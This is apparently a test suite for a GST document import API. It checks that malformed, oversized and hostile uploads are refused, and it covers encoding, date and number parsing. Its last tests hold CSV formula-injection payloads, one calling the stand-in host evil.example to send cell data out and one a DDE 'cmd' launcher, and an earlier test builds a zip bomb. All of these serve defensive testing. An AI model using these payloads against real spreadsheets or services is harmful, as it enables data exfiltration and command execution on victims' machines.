import { IMPORT_API as I, type ImportType } from '@opengst/contracts';
import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documents } from '../../db/schema';
import { ENGINES, setSubscriberSettings, type Harness, type Tenant } from '../../test-support/harness';
import { csvOf, headerOf, importFile, readXlsx, saleRow, upload, xlsxOf } from '../../test-support/import-fixtures';
import { xlsOf } from '../../test-support/import-xls-writer';
import { type ApiClient, openSignedIn } from '../../test-support/org-fixtures';

describe.each(ENGINES)('bad import input on %s', (engine) => {
  let h: Harness;
  let t: Tenant;
  let token: string;
  let api: ApiClient;

  beforeAll(async () => {
    ({ h, t, token, api } = await openSignedIn(engine));
  });
  afterAll(async () => {
    await h.close();
  });

  const stored = (number: string) =>
    h.ctx.database.db
      .select()
      .from(documents)
      .where(and(eq(documents.subscriberId, t.subscriberId), eq(documents.documentNumber, number)));
  const refusedWith = async (name: string, content: Buffer | string, importType: ImportType = 'SalesDocuments') => {
    const res = await upload(h, token, name, content, importType);
    expect(res.statusCode).toBeGreaterThanOrEqual(400);
    return res.json().errors[0] as { code: string; message: string };
  };
  const errorsOf = async (importId: number) =>
    (
      (await api.post(I.errors, { importId, size: 100 })).json().data.items as {
        row: number;
        column: string | null;
        value: string | null;
        code: string;
        type: string;
      }[]
    ).filter((e) => e.type === 'Error');

  it('refuses an empty file, a PDF renamed .xlsx, an old .xls, a corrupted xlsx and a zip bomb, with clear errors', async () => {
    expect((await refusedWith('empty.csv', '')).code).toBe('IMP0001');
    expect((await refusedWith('invoice.xlsx', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'))).code).toBe(
      'IMP0002',
    );
    // Excel 5.0/95 (BIFF5) is refused; a container whose header is all zeros after the signature is damaged.
    expect((await refusedWith('old.xls', xlsOf([['x']], { biff5: true }))).code).toBe('IMP0003');
    expect(
      (await refusedWith('broken.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)])))
        .code,
    ).toBe('IMP0024');
    // JSON only in an official format, and only as the documents of its kind (GSTR-1 sales, 2A/2B purchases).
    expect((await refusedWith('vendors.json', '{"gstin":"x"}', 'Vendors')).code).toBe('IMP0026');
    const good = await xlsxOf([headerOf(), saleRow()]);
    expect((await refusedWith('cut.xlsx', good.subarray(0, Math.floor(good.length / 2)))).code).toBe('IMP0004');
    // 64 MB of one character compresses to about 64 KB.
    const bomb = new JSZip();
    bomb.file('xl/workbook.xml', '<workbook/>');
    bomb.file('xl/worksheets/sheet1.xml', ' '.repeat(64 * 1024 * 1024));
    const bombBytes = await bomb.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
    expect(bombBytes.length).toBeLessThan(1024 * 1024);
    const refused = await refusedWith('bomb.xlsx', bombBytes);
    expect(refused.code).toBe('IMP0005');
    expect(refused.message).toContain('zip bomb');
  }, 60_000);

  it('refuses a file over the size limit and fails a file with more rows than the limit, storing nothing', async () => {
    await setSubscriberSettings(h, t.subscriberId, { importValidation: { maxFileSizeMb: 1, maxRows: 3 } });
    try {
      const big = await upload(h, token, 'big.csv', `${headerOf().join(',')}\r\n${'x'.repeat(1024 * 1024 + 10)}\r\n`);
      expect(big.statusCode).toBe(422);
      expect(big.json().errors[0].code).toBe('IMP0006');
      const rows = [headerOf(), ...[1, 2, 3, 4, 5].map((n) => saleRow({ documentNumber: `LIM/${n}` }))];
      const { importId, progress } = await importFile(h, token, 'many.csv', csvOf(rows));
      expect(progress.status).toBe('Failed');
      expect(progress.message).toContain('more than 3 rows');
      expect((await errorsOf(importId))[0]).toMatchObject({ row: 0, code: 'IMP0007' });
      expect(await stored('LIM/1')).toHaveLength(0);
    } finally {
      await setSubscriberSettings(h, t.subscriberId, { importValidation: { maxFileSizeMb: 100, maxRows: 1_000_000 } });
    }
  });

  it('reads UTF-8 with BOM, UTF-16 LE and BE, and Windows-1252', async () => {
    const csv = (number: string, name: string) => csvOf([headerOf(), saleRow({ documentNumber: number, counterpartyName: name })]);
    const encode16be = (text: string) => Buffer.from(text, 'utf16le').swap16();
    const cases: [string, Buffer, string][] = [
      ['ENC/1', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv('ENC/1', 'Café Ñandú ₹'))]), 'Café Ñandú ₹'],
      ['ENC/2', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv('ENC/2', 'Müller & Söhne'), 'utf16le')]), 'Müller & Söhne'],
      ['ENC/3', Buffer.concat([Buffer.from([0xfe, 0xff]), encode16be(csv('ENC/3', 'Gödel'))]), 'Gödel'],
      ['ENC/4', Buffer.from(csv('ENC/4', 'Café Crème'), 'latin1'), 'Café Crème'],
    ];
    for (const [number, bytes, name] of cases) {
      const { progress } = await importFile(h, token, `${number.replace('/', '-')}.csv`, bytes);
      expect(progress.status, number).toBe('Success');
      expect((await stored(number))[0]?.counterpartyName).toBe(name);
    }
  });

  it('reads dates as Excel serials and as text, amounts with commas, and refuses more than two decimals', async () => {
    const header = headerOf();
    const dateAt = header.indexOf('Document date');
    const serialRow: unknown[] = saleRow({ documentNumber: 'D/1' });
    serialRow[dateAt] = 45_397; // 15-04-2024 as Excel stores it
    const dateCell: unknown[] = saleRow({ documentNumber: 'D/2' });
    dateCell[dateAt] = new Date(Date.UTC(2024, 3, 16));
    const xlsx = await xlsxOf([
      header,
      serialRow,
      dateCell,
      saleRow({ documentNumber: 'D/3', documentDate: '2024-04-17' }),
      saleRow({ documentNumber: 'D/4', documentDate: '18/04/2024' }),
    ]);
    expect((await importFile(h, token, 'dates.xlsx', xlsx)).progress.status).toBe('Success');
    expect((await stored('D/1'))[0]?.documentDate).toBe('2024-04-15');
    expect((await stored('D/2'))[0]?.documentDate).toBe('2024-04-16');
    expect((await stored('D/3'))[0]?.documentDate).toBe('2024-04-17');
    expect((await stored('D/4'))[0]?.documentDate).toBe('2024-04-18');
    const csv = csvOf([
      header,
      saleRow({ documentNumber: 'D/5', documentDate: '45397' }),
      saleRow({ documentNumber: 'N/1', taxable: '1,00,000.50', igst: '18,000.09' }),
      saleRow({ documentNumber: 'N/2', taxable: '1000.505' }),
    ]);
    const { importId, progress } = await importFile(h, token, 'numbers.csv', csv);
    expect(progress.status).toBe('SuccessWithError');
    expect((await stored('D/5'))[0]?.documentDate).toBe('2024-04-15');
    expect((await stored('N/1'))[0]).toMatchObject({ taxable: 10_000_050, igst: 1_800_009 });
    expect(await stored('N/2')).toHaveLength(0);
    expect(await errorsOf(importId)).toEqual([
      expect.objectContaining({ row: 4, column: 'Taxable value', value: '1000.505', code: 'IMP0011' }),
    ]);
  });

  it('keeps formula cells as text, never evaluates them, and escapes them in the error export', async () => {
    const header = headerOf();
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Data');
    sheet.addRow(header);
    sheet.addRow(saleRow({ documentNumber: 'F/1' }));
    const formulaRow = sheet.addRow(saleRow({ documentNumber: 'F/2' }));
    formulaRow.getCell(header.indexOf('Taxable value') + 1).value = { formula: '500*2.001', result: 1000.5 };
    sheet.addRow(saleRow({ documentNumber: 'F/3', description: '@SUM(1+1)*cmd' }));
    const { importId, progress } = await importFile(h, token, 'formula.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(progress.status).toBe('SuccessWithError');
    expect(await errorsOf(importId)).toEqual([
      expect.objectContaining({ row: 3, column: 'Taxable value', value: '=500*2.001', code: 'IMP0015' }),
    ]);
    expect(await stored('F/2')).toHaveLength(0);
    // Text that merely looks like a formula is data: stored as written.
    expect((await stored('F/3'))[0]).toBeDefined();

    const injection = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    // An extra column headed by a formula: no column of ours, but the error export shows the file's headers.
    const csv = csvOf([
      [...header, injection],
      [...saleRow({ documentNumber: 'F/4', counterpartyName: injection }), ''],
      [...saleRow({ documentNumber: 'F/5', description: '+cmd|" /C calc"!A0', taxable: '1.234' }), ''],
    ]);
    const second = await importFile(h, token, 'injection.csv', csv);
    expect(second.progress.status).toBe('Failed');
    const exported = await readXlsx((await api.get(I.export, { importId: second.importId })).rawPayload);
    const nameAt = header.indexOf('Customer name') + 1;
    const descriptionAt = header.indexOf('Description') + 1;
    expect(exported[1]?.[nameAt]).toBe(`'${injection}`);
    expect(exported[2]?.[descriptionAt]).toBe(`'+cmd|" /C calc"!A0`);
    expect(exported[1]?.at(-1)).toContain('IMP0015');
    expect(exported[0]?.at(-2)).toBe(`'${injection}`);
  });
});
